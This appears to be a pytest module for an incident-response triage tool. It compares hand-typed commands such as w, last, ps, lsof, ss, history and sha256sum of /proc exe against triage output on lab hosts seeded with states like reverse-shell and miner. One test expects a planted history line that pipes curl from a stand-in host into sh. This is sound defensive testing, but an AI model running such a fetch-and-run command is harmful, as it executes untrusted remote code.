# Copyright (c) 2026, the incident.response contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Line by line, what an operator types on a host by hand beside our answer about the same host: ours has all that the command shows."""

from __future__ import annotations

import re
import shlex
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from datetime import datetime
from typing import Any

import pytest
from harness.ansible import Ansible
from harness.cases import load_cases
from harness.expect import records
from harness.planting import Planted
from harness.rounds import states
from incident_lab.fleet import Fleet
from incident_lab.host import Host
from incident_lab.names import DEFAULT_HOSTS

_HOSTS = [text.partition(":")[0] for text in DEFAULT_HOSTS]
# What makes a host worth looking at.
_STATES = (
    *("session-with-terminal", "session-without-terminal", "listener-tcp4", "listener-dual-stack", "listener-udp", "reverse-shell", "history-plain"),
    *("session-tunnel-only", "session-of-login", "account-that-lingers", "login-by-key", "login-failed"),
    *("history-timed", "sudo-used", "sudo-denied", "deleted-in-temp", "replaced-unowned", "memfd", "miner", "kernel-thread-by-argument", "blank-at-end"),
)
# The procedure, by name. What needs a value is completed with an account that is logged in.
_COMMANDS = {
    "w": "w -h -s",
    "who": "who",
    # Debian 13 has no lastb; its last is that of wtmpdb.
    "last": "last -w",
    "lastb": "lastb -w",
    "wtmpdb": "wtmpdb last -w",
    "loginctl": "loginctl list-sessions --no-legend --no-pager",
    "loginctl users": "loginctl list-users --no-legend --no-pager",
    "ps": "ps axww -o pid=,ppid=,nlwp=,nice=,user:32=,tname=",
    "ps aux": "ps auxww --no-headers",
    "lsof -u": "lsof -nP -w -u irlpam -F pftn",
    "lsof -i": "lsof -nP -w -i -F pfPntT",
    "lsof listen": "lsof -nP -w -iTCP -sTCP:LISTEN -F pfPn",
    "ss": "ss -H -l -n -t -u -p",
    "hostname": "hostname -I",
    "history": "su -l irlhal -c 'HISTFILE=~/.bash_history; set -o history; history -r; history'",
    "history with times": "su -l irlida -c 'HISTFILE=~/.bash_history; HISTTIMEFORMAT=\"%s \"; set -o history; history -c; history -r; history'",
    "journal": "journalctl -q --no-pager -o cat _COMM=sudo",
    "exe": "for p in /proc/[0-9]*; do printf '%s ' ${p#/proc/}; readlink $p/exe || echo; done 2>/dev/null",
    "sha256": "for p in /proc/[0-9]*; do printf '%s ' ${p#/proc/}; sha256sum <$p/exe || echo; done 2>/dev/null",
}


@dataclass(frozen=True)
class Seen:
    """A host: what the commands showed before and after a triage, what the triage says, and what was noted when states were made."""

    before: Mapping[str, str]
    after: Mapping[str, str]
    facts: Any
    open_files: list[dict[str, Any]]
    planted: Mapping[str, Planted]

    def lines(self, command: str) -> list[str]:
        """What a command showed both times: the rest came or went while we looked."""
        later = set(self.after[command].splitlines())
        shown = [line for line in self.before[command].splitlines() if line in later]
        assert shown, self.before[command]
        return shown

    def processes(self) -> dict[int, dict[str, Any]]:
        """Our processes by pid."""
        return {record["pid"]: record for record in records(self.facts, "processes.items")}


def _typed(host: Host) -> dict[str, str]:
    script = "\n".join(f"echo '=== {name}'; {{ {command}; }} 2>/dev/null" for name, command in _COMMANDS.items())
    output = host.run(["bash", "-c", script]).stdout
    return {part.partition("\n")[0]: part.partition("\n")[2] for part in output.split("=== ")[1:]}


@pytest.fixture(scope="module")
def looked(fleet: Fleet, session_ansible: Ansible) -> Iterator[Mapping[str, Seen]]:
    """Every host, by hand and by triage, while something is going on there."""
    cases = [case for case in load_cases() if case.id in _STATES]
    assert len(cases) == len(_STATES)
    with states(fleet, dict.fromkeys(_HOSTS, cases)) as planted:
        before = dict(zip(_HOSTS, fleet.each(_typed), strict=True))
        done, case = session_ansible.triage("procedure")
        files = session_ansible.facts("lab", "process_facts", {"users": ["irlpam"], "open_files": True, "sample_seconds": 0})
        after = dict(zip(_HOSTS, fleet.each(_typed), strict=True))
    assert done.status == 0, done.output[-3000:]
    yield {host: Seen(before[host], after[host], case.facts(host), files[host]["incident_processes"]["open_files"], planted[host]) for host in _HOSTS}


pytestmark = [pytest.mark.host_only, pytest.mark.parametrize("host", _HOSTS)]
Looked = Mapping[str, Seen]


def test_w(looked: Looked, host: str) -> None:
    """``w``: who is logged in, where, from where, and what runs there. Ours has more: logins without a terminal."""
    sessions = records(looked[host].facts, "sessions.items")
    known = {(session["user"], session["terminal"] or "-") for session in sessions}
    shown = {(fields[0][:8], fields[1]) for fields in map(str.split, looked[host].before["w"].splitlines())}
    assert ("irlpam", looked[host].planted["session-with-terminal"].notes["terminal"]) in known
    assert {entry for entry in shown if entry[1].startswith("pts/")} <= {(user[:8], terminal) for user, terminal in known}
    assert "irlotto" in {session["user"] for session in sessions}


def test_who(looked: Looked, host: str) -> None:
    """``who``: every line of utmp, a terminal with its account. Debian 13 has none: there it asks logind, and names the service."""
    sessions = records(looked[host].facts, "sessions.items")
    ours = {(session["recorded_user"] or session["user"], session[place]) for session in sessions for place in ("terminal", "service")}
    shown = {tuple(line.split()[:2]) for line in looked[host].before["who"].splitlines()}
    assert "irlpam" in {user for user, _place in shown}
    assert shown <= ours


def test_loginctl(looked: Looked, host: str) -> None:
    """``loginctl list-sessions``: every session that was there all the time, but those of service managers."""
    ours = {(session["session"], str(session["uid"])) for session in records(looked[host].facts, "sessions.items")}
    later = {line.split()[0] for line in looked[host].after["loginctl"].splitlines()}
    lasting = [line.split() for line in looked[host].before["loginctl"].splitlines()]
    shown = {(fields[0], fields[1]) for fields in lasting if fields[0] in later and not any(field.startswith("manager") for field in fields)}
    assert len(shown) >= 3
    assert shown <= ours


def test_loginctl_users(looked: Looked, host: str) -> None:
    """``loginctl list-users``: every account that is logged in, or lingers."""
    ours = {(str(user["uid"]), user["user"]) for user in records(looked[host].facts, "sessions.users")}
    later = {tuple(line.split()[:2]) for line in looked[host].after["loginctl users"].splitlines()}
    shown = {tuple(line.split()[:2]) for line in looked[host].before["loginctl users"].splitlines()} & later
    assert "irlpam" in {user for _uid, user in shown}
    assert shown <= ours
    # Its manager runs, but logind was not told.
    assert "irlxed" in {user for _uid, user in ours}


_OF_SSH = "ssh:notty"
_DAYS = ("Mon", "Tue", "Wed", "Thu", "Fri", "Sat", "Sun")


def _recorded(text: str) -> set[tuple[str, str | None, str | None]]:
    """Account, terminal and remote host of each line that last, lastb or wtmpdb shows; the last two may be missing."""
    found: set[tuple[str, str | None, str | None]] = set()
    for line in text.splitlines():
        fields = line.split()
        if _OF_SSH in fields:
            # A name that was tried may hold blanks.
            place = fields.index(_OF_SSH)
            found.add((" ".join(fields[:place]), _OF_SSH, fields[place + 1]))
        elif len(fields) > 4 and fields[0] not in ("reboot", "wtmpdb") and fields[1] != "begins":
            terminal, remote = (None if field in _DAYS else field for field in fields[1:3])
            found.add((fields[0], terminal, remote if terminal else None))
    return found


@pytest.mark.parametrize("command", ["last", "wtmpdb"])
def test_last(looked: Looked, host: str, command: str) -> None:
    """``last``, and on Debian 13 ``wtmpdb last``: who was logged in, where and from where."""
    logins = [login for login in records(looked[host].facts, "sessions.logins") if set(login["sources"]) & {"wtmp", "wtmpdb"}]
    shown = _recorded(looked[host].before[command])
    assert shown or (command == "wtmpdb" and host != "d13")
    assert shown <= {(login["user"], login["terminal"], login["from"]) for login in logins}
    assert "boot" in {login["kind"] for login in logins}


def test_lastb(looked: Looked, host: str) -> None:
    """``lastb``: every record of btmp; ours has the attempts that only the journal knows as well."""
    failed = records(looked[host].facts, "sessions.failed_logins")
    shown = _recorded(looked[host].before["lastb"])
    assert ("irlnobody", _OF_SSH, "127.0.0.1") in shown or host == "d13"
    # A record has room for a name of 32 bytes.
    assert shown <= {(attempt["user"][:32], attempt["terminal"], attempt["from"]) for attempt in failed}
    assert "irlnobody" in {attempt["user"] for attempt in failed}


def test_ps(looked: Looked, host: str) -> None:
    """``ps aux``: every process, its parent, account, terminal, threads and priority."""
    ours = looked[host].processes()
    for line in looked[host].lines("ps"):
        pid, ppid, threads, nice, user, terminal = line.split()
        record = ours[int(pid)]
        # ps leaves out the session that runs it.
        shown = (int(ppid), int(threads), user, terminal)
        assert (record["ppid"], record["threads"], record["user"], record["terminal"] or "?") == shown, line
        assert nice in ("-", str(record["nice"])), line


def test_ps_aux(looked: Looked, host: str) -> None:
    """``ps aux``: what was typed to start it, with its blanks, and nothing put into brackets that is no kernel thread."""
    ours = looked[host].processes()
    compared = 0
    for line in looked[host].lines("ps aux"):
        fields = line.split(None, 10)
        record = ours[int(fields[1])]
        if record["is_kernel_thread"] or "raw" in record or "clipped" in record or not any(record["argv"]):
            continue
        assert " ".join(record["argv"]).split() == fields[10].split()
        compared += 1
    assert compared > len(_STATES)


def test_htop(looked: Looked, host: str) -> None:
    """``htop``, held open: what takes the processor stands first."""
    load = looked[host].facts["sections"]["processes"]["host"]
    # On a machine that all hosts share, something else may take more for a second.
    assert looked[host].planted["miner"].notes["pid"] in load["top_cpu"][:3]
    ours = looked[host].processes()
    used = [ours[pid]["cpu_percent"] for pid in load["top_cpu"] if pid in ours]
    assert used == sorted(used, reverse=True)
    assert load["memory_total"] > load["memory_available"] > 0
    assert len(load["load"]) == 3


def test_iftop(looked: Looked, host: str) -> None:
    """``iftop``, held open: what goes through each interface."""
    rates = {record["interface"]: record for record in records(looked[host].facts, "processes.interfaces")}
    assert set(rates) == {"lo", "eth0"}
    assert all(rate["receive_rate"] >= 0 and rate["transmit_rate"] >= 0 for rate in rates.values())


def test_iotop(looked: Looked, host: str) -> None:
    """``iotop``, held open: a rate for every process that lasted."""
    lasting = [record for record in looked[host].processes().values() if not record["is_own"] and record["cpu_percent"] is not None]
    assert lasting
    assert all(record["write_rate"] is not None and record["read_rate"] is not None for record in lasting)


def _lsof(text: str) -> Iterator[tuple[int, dict[str, str]]]:
    """The output of ``lsof -F``: a line a field, ``p`` opens a process and ``f`` a file."""
    pid = 0
    fields: dict[str, str] = {}
    for line in text.splitlines():
        if line[:1] in "pf" and "f" in fields:
            yield pid, fields
            fields = {}
        if line[:1] == "p":
            pid = int(line[1:])
        elif line.startswith("TST="):
            fields["state"] = line[4:]
        else:
            fields[line[:1]] = line[1:]
    if "f" in fields:
        yield pid, fields


# Types of lsof and ours.
_KINDS = {"REG": ("file",), "DIR": ("directory",), "CHR": ("device",), "FIFO": ("pipe",), "a_inode": ("anonymous",)}
_KINDS |= dict.fromkeys(("IPv4", "IPv6", "unix", "sock", "netlink"), ("socket",))
_WITH_PATH = ("REG", "DIR", "CHR")


def test_lsof_of_account(looked: Looked, host: str) -> None:
    """``lsof -u``: every open file of an account."""
    later = {(pid, tuple(fields.items())) for pid, fields in _lsof(looked[host].after["lsof -u"])}
    ours = {(record["pid"], record["descriptor"]): record for record in looked[host].open_files}
    compared = 0
    for pid, fields in _lsof(looked[host].before["lsof -u"]):
        if fields["f"].isdigit() and (pid, tuple(fields.items())) in later:
            record = ours[pid, int(fields["f"])]
            assert record["kind"] in _KINDS.get(fields["t"], (record["kind"],)), fields
            if fields["t"] in _WITH_PATH:
                assert record["path"] == fields["n"].split(" (")[0], fields
            compared += 1
    assert compared > 5


_ENDPOINT = re.compile(r"(?:\[(?P<v6>[^]]*)\]|(?P<v4>[^:]*)):(?P<port>\d+|\*)")
_WILDCARDS = ("*", "0.0.0.0", "::")


def _endpoint(text: str) -> tuple[str, int | None]:
    """An end of a socket as tools write it; every way to write all addresses is one."""
    match = _ENDPOINT.fullmatch(text)
    assert match, text
    address = (match["v6"] if match["v6"] is not None else match["v4"]).partition("%")[0]
    return ("*" if address in _WILDCARDS else address), (None if match["port"] == "*" else int(match["port"]))


def _ours(facts: Any) -> set[tuple[str, tuple[str, int | None], tuple[str, int | None] | None, int]]:
    found = set()
    for record in records(facts, "ports.items"):
        if record["protocol"] in ("tcp", "udp") and record["network_namespace"] is None:
            local = ("*" if record["local_address"] in _WILDCARDS else record["local_address"], record["local_port"])
            remote = (record["remote_address"], record["remote_port"]) if record["remote_address"] is not None else None
            found |= {(record["protocol"], local, remote, pid) for pid in record["pids"]}
    return found


def test_lsof_network(looked: Looked, host: str) -> None:
    """``lsof -nP -i``: every socket with its process."""
    later = {(pid, fields["P"], fields["n"]) for pid, fields in _lsof(looked[host].after["lsof -i"])}
    ours = _ours(looked[host].facts)
    wanted = set()
    for pid, fields in _lsof(looked[host].before["lsof -i"]):
        if (pid, fields["P"], fields["n"]) in later:
            local, _arrow, remote = fields["n"].partition("->")
            wanted.add((fields["P"].lower(), _endpoint(local), _endpoint(remote) if remote else None, pid))
    assert len(wanted) > 5
    assert not wanted - ours


def test_lsof_listen(looked: Looked, host: str) -> None:
    """``lsof -nP -i -sTCP:LISTEN``, looking for ``*:port``: what it shows so, and what only the IPv6 table has, is exposed."""
    listeners = {
        (record["local_port"], pid)
        for record in records(looked[host].facts, "ports.items")
        if record["protocol"] == "tcp" and record["state"] == "listen" and record["scope"] == "all" and record["exposed"]
        for pid in record["pids"]
    }
    shown = {(int(fields["n"][2:]), pid) for pid, fields in _lsof(looked[host].before["lsof listen"]) if fields["n"].startswith("*:")}
    assert {47110, 47111} <= {port for port, _pid in shown}
    assert shown <= listeners


def test_ss(looked: Looked, host: str) -> None:
    """``ss -ltnup``: every listener, TCP and UDP, with its processes."""
    ours = {(protocol, local, pid) for protocol, local, _remote, pid in _ours(looked[host].facts)}
    wanted = set()
    for line in looked[host].lines("ss"):
        fields = line.split()
        for pid in re.findall(r"pid=(\d+)", line):
            wanted.add((fields[0], _endpoint(fields[4] if not fields[4].startswith("*:") else "0.0.0.0" + fields[4][1:]), int(pid)))
    assert ("udp", ("*", 47113)) in {entry[:2] for entry in wanted}
    assert not wanted - ours


def test_hostname(looked: Looked, host: str) -> None:
    """``hostname -I``: every address of the host."""
    ours = {record["address"] for record in records(looked[host].facts, "ports.addresses") if record["network_namespace"] is None}
    shown = set(looked[host].before["hostname"].split())
    assert len(shown) == 3
    assert shown <= ours


def test_history(looked: Looked, host: str) -> None:
    """``su -l $user; history``: every line, without becoming the user."""
    shown = [line.split(None, 1)[1].strip() for line in looked[host].before["history"].splitlines() if line.strip()[:1].isdigit()]
    ours = [record["command"].strip() for record in records(looked[host].facts, "history.items") if record["user"] == "irlhal"]
    assert shown[: len(ours)] == ours == ["ls -la /srv", "curl -s http://192.0.2.250/i.sh | sh", "indented"]


def test_history_with_times(looked: Looked, host: str) -> None:
    """``HISTTIMEFORMAT='%s ' history``: every command with its time, one of several lines as one."""
    shown = re.split(r"^ *\d+\*? +(\d{10}) ", looked[host].before["history with times"], flags=re.MULTILINE)[1:]
    ours = [record for record in records(looked[host].facts, "history.items") if record["user"] == "irlida"]
    assert [datetime.fromisoformat(record["at"].replace("Z", "+00:00")).timestamp() for record in ours] == [int(at) for at in shown[: 2 * len(ours) : 2]]
    assert [record["command"] for record in ours] == [command.rstrip("\n") for command in shown[1 : 2 * len(ours) : 2]]
    assert len(ours) == 3


def test_journal_of_sudo(looked: Looked, host: str) -> None:
    """``journalctl _COMM=sudo``: every command and every refusal."""
    ours = {(event["user"], event["run_as"], event["command"]) for event in records(looked[host].facts, "history.sudo_events")}
    wanted = set()
    for line in looked[host].before["journal"].splitlines():
        match = re.match(r" *(\S+) : .*USER=(\S+) ; .*?COMMAND=(.*)$", line)
        if match:
            wanted.add(match.groups())
    planted = {"irlkim", "irlliz"}
    assert planted <= {user for user, _run_as, _command in ours}
    # journald asks for the name of a sender when it reads the line: the command misses a sudo that has ended by then. We do not.
    assert planted & {user for user, _run_as, _command in wanted}
    assert not wanted - ours


_STATES_OF_DELETED = ("deleted", "replaced", "memfd")


def test_exe(looked: Looked, host: str) -> None:
    """``ls -l /proc/$PID/exe``: every executable, and which of them is marked as deleted; ours says in what way."""
    ours = looked[host].processes()
    marked = 0
    for line in looked[host].lines("exe"):
        pid, _blank, target = line.partition(" ")
        if not target:
            continue
        record = ours[int(pid)]
        assert record["exe"] == target.removesuffix(" (deleted)")
        assert (record["exe_state"] in _STATES_OF_DELETED) == target.endswith(" (deleted)"), record
        marked += target.endswith(" (deleted)")
    assert marked >= 3


def test_sha256sum(looked: Looked, host: str) -> None:
    """``sha256sum /proc/$PID/exe``: the same digest for every process."""
    ours = {pid: record["sha256"] for record in records(looked[host].facts, "executables.items") for pid in record["pids"]}
    compared = 0
    for line in looked[host].lines("sha256"):
        fields = shlex.split(line)
        if len(fields) > 1:
            assert ours[int(fields[0])] == fields[1], line
            compared += 1
    assert compared > len(_STATES)
